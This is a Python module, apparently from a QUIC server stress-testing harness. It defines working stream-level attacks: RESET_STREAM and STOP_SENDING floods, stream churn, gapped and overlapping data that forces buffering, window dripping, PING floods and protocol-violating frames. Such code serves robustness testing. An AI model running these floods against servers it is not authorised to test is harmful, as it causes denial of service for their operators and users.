"""Attacks with streams."""

from attacker import Attacker
from frames import (
    FIN,
    HUGE,
    LENGTH,
    MAX_STREAM_DATA,
    OFFSET,
    PING,
    RESET_STREAM,
    STOP_SENDING,
    STREAM,
    STREAM_DATA_BLOCKED,
)
from wire import frame


class Streams(Attacker):
    """Opens, fills and ends streams in ways of no honest client."""

    def reset_streams(self):
        """Opens every stream for which there is credit with a RESET_STREAM (section 19.4)."""
        return self._resets(lambda stream: frame(RESET_STREAM, stream, 0, 0))

    def reset_begun_streams(self):
        """The same after one byte of data."""
        return self._resets(
            lambda stream: frame(STREAM | LENGTH, stream, 1, b"\x00", RESET_STREAM, stream, 0, 1)
        )

    def _resets(self, of):
        client = self._connected()
        streams = min(client.credit(), 16_384)
        packed = []
        payload = b""
        for stream in range(0, 4 * streams, 4):
            payload += of(stream)
            if len(payload) > 1_100:
                packed.append(payload)
                payload = b""
        packed.append(payload)
        result = self._flood(packed, client=client)
        result["streams"] = streams
        return result

    def churned_streams(self):
        """Opens and resets streams as fast as new credit comes, and acknowledges."""
        client = self._connected()
        opened = 0
        while self._left() and client.closed is None and opened < 5_000:
            for _ in range(min(client.credit(), 100)):
                stream = client.stream(b"x")
                client.quic.reset_stream(stream, 0)
                opened += 1
            client.step(0.005)
        return self._result(client, opened=opened)

    def silent_streams(self):
        """A hello and one byte on 64 streams, then on all streams for which there is credit, and nothing more."""
        client = self._connected()
        for _ in range(min(client.credit(), 64)):
            client.stream(b"x")
        client.until(lambda: False, self.seconds / 2)
        more = 0
        while self._left() and client.closed is None and more < 1_000:
            if client.credit() > 0:
                client.stream(b"x")
                more += 1
            if more % 50 == 0 or client.credit() == 0:
                client.step(0.005)
        return self._result(client, more=more)

    def unread_answers(self):
        """Asks on 64 streams for answers that it never reads, with small windows."""
        client = self._connected(max_data=4_096, max_stream_data=1_024)
        for _ in range(min(client.credit(), 64)):
            client.stream(b"y" * 900, fin=True)
        client.until(lambda: not self._left(), self.seconds + 1)
        return self._result(client)

    def untaken_answers(self):
        """Asks for small answers as long as there is credit, and takes none: they bring no credit for more."""
        client = self._connected(max_data=0, max_stream_data=0)
        asked = 0
        while asked < 3_000 and client.until(lambda: client.credit() > 0, 0.5):
            for _ in range(min(client.credit(), 50)):
                client.stream(b"y" * 900, fin=True)
                asked += 1
            client.step(0.005)
        return self._result(client, asked=asked)

    def gaps_in_streams(self):
        """Single bytes with gaps on many streams, so that the server has to keep each (section 2.2)."""
        client = self._connected()
        streams = min(client.credit(), 64)

        def packets():
            for offset in range(2, 120_000, 2):
                for stream in range(0, 4 * streams, 4 * 16):
                    yield b"".join(
                        frame(STREAM | OFFSET | LENGTH, stream + 4 * i, offset, 1, b"x") for i in range(16)
                    )

        return self._flood(packets(), client=client)

    def empty_stream_frames(self):
        """Empty frames for one stream, more than a thousand a second."""
        client = self._connected()
        payload = frame(STREAM | OFFSET | LENGTH, 0, 1, 0) * 100
        client.raw(frame(STREAM | LENGTH, 0, 1, b"\x00"))
        return self._flood((payload for _ in range(100_000)), client=client)

    def stop_sending(self):
        """STOP_SENDING for every stream for which there is credit, without opening it otherwise."""
        client = self._connected()
        streams = min(client.credit(), 16_384)
        packed = [
            b"".join(frame(STOP_SENDING, 4 * (i + k), 0) for k in range(200)) for i in range(0, streams - 200, 200)
        ]
        return self._flood(packed, client=client)

    def one_byte_holes(self):
        """Every other byte of a window, then each again with its neighbours, so that pieces overlap (section 2.2)."""
        client = self._connected()
        client.raw(frame(STREAM | LENGTH, 0, 1, b"\x00"))

        def packets():
            while True:
                for offset in range(3, 200_000, 2 * 60):
                    yield b"".join(frame(STREAM | OFFSET | LENGTH, 0, offset + 2 * k, 1, b"x") for k in range(60))
                for offset in range(3, 200_000, 1_000):
                    yield frame(STREAM | OFFSET | LENGTH, 0, offset, 1_000, b"x" * 1_000)

        return self._flood(packets(), client=client)

    def overlapping_pieces(self):
        """The same thousand bytes, each time one byte further, after a gap."""
        client = self._connected()
        client.raw(frame(STREAM | LENGTH, 0, 1, b"\x00"))

        def packets():
            for i in range(100_000):
                yield frame(STREAM | OFFSET | LENGTH, 0, 2 + i % 100_000, 1_000, b"x" * 1_000)

        return self._flood(packets(), client=client)

    def empty_ends(self):
        """Streams that end without a byte, as fast as there is credit. Clients over netty ping this way, but not as often."""
        client = self._connected()
        opened = 0
        while self._left() and client.closed is None and opened < 5_000:
            for _ in range(min(client.credit(), 100)):
                stream = client.quic.get_next_available_stream_id()
                client.quic.send_stream_data(stream, b"", end_stream=True)
                opened += 1
            client.step(0.005)
        return self._result(client, opened=opened)

    def half_ends(self):
        """Requests on all streams, without a window for the answers, then PINGs: does each PING cost a scan of all streams?"""
        client = self._connected(max_data=2_048, max_stream_data=16)
        for _ in range(min(client.credit(), 400)):
            client.stream(b"y" * 20, fin=True)
        client.until(lambda: False, 0.2)
        return self._flood((frame(PING) for _ in range(100_000)), client=client)

    def dripped_windows(self):
        """Asks for 900 bytes on 64 streams, and opens the windows by one byte with each packet (section 19.10)."""
        client = self._connected(max_data=100_000, max_stream_data=8)
        streams = min(client.credit(), 64)
        for _ in range(streams):
            client.stream(b"y" * 900, fin=True)
        client.until(lambda: False, 0.1)

        def packets():
            for more in range(9, 1_000):
                for stream in range(0, 4 * streams, 4 * 16):
                    yield b"".join(frame(MAX_STREAM_DATA, stream + 4 * i, more) for i in range(16))

        return self._flood(packets(), client=client)

    def other_ends(self):
        """A RESET_STREAM whose final size differs from that of the FIN (section 4.5), on many connections."""
        return self._violations(
            lambda i: frame(STREAM | LENGTH | FIN, 0, 10, b"\x00" * 10, RESET_STREAM, 0, 0, 20 + i)
        )

    def no_hellos(self):
        """Opens all streams for which there is credit without a byte, so that each lacks its hello."""
        client = self._connected()
        streams = min(client.credit(), 16_384)
        packed = [
            b"".join(frame(STREAM | LENGTH, 4 * (i + k), 0) for k in range(100)) for i in range(0, streams - 100, 100)
        ]
        return self._flood(packed, client=client)

    def no_room_for_ids(self):
        """A hello on each stream for which there is credit, without a window for the id."""
        client = self._connected(max_data=0, max_stream_data=0)
        for _ in range(min(client.credit(), 1_000)):
            client.stream(b"x")
        client.until(lambda: not self._left(), self.seconds + 1)
        return self._result(client)

    def far_offsets(self):
        """The largest stream ids, offsets and lengths (sections 4.1, 4.5 and 4.6)."""
        frames = (
            frame(STREAM | OFFSET | LENGTH, 0, HUGE - 1, 1, b"x"),
            frame(STREAM | OFFSET | LENGTH, 0, HUGE, 1, b"x"),
            frame(STREAM | OFFSET | LENGTH | FIN, 0, HUGE, 0),
            frame(STREAM | LENGTH, 0, 1, b"\x00", RESET_STREAM, 0, 0, HUGE),
            frame(STREAM | LENGTH, HUGE & ~3, 1, b"\x00"),
            frame(RESET_STREAM, HUGE & ~3, 0, 0),
            frame(STOP_SENDING, HUGE & ~3, 0),
            frame(MAX_STREAM_DATA, HUGE & ~3, 1),
            frame(STREAM_DATA_BLOCKED, HUGE & ~3, 1),
        )
        return self._violations(lambda i: frames[i % len(frames)])

    def streams_of_the_server(self):
        """Sends on streams that only the server can open, and on unidirectional streams (sections 2.1 and 19.8)."""
        frames = [
            of
            for stream in (1, 2, 3, 5, 401)
            for of in (
                frame(STREAM | LENGTH, stream, 1, b"\x00"),
                frame(RESET_STREAM, stream, 0, 0),
                frame(STOP_SENDING, stream, 0),
                frame(MAX_STREAM_DATA, stream, 100),
                frame(STREAM_DATA_BLOCKED, stream, 100),
            )
        ]
        return self._violations(lambda i: frames[i % len(frames)])

    def hellos(self):
        """Streams whose first byte is not the hello, and streams with much data after the hello."""
        client = self._connected()
        opened = 0
        while self._left() and client.closed is None and opened < 3_000:
            for _ in range(min(client.credit(), 50)):
                stream = client.quic.get_next_available_stream_id()
                client.quic.send_stream_data(stream, bytes([1 + opened % 255]) * 100, end_stream=opened % 2 == 0)
                opened += 1
            client.step(0.005)
        return self._result(client, opened=opened)
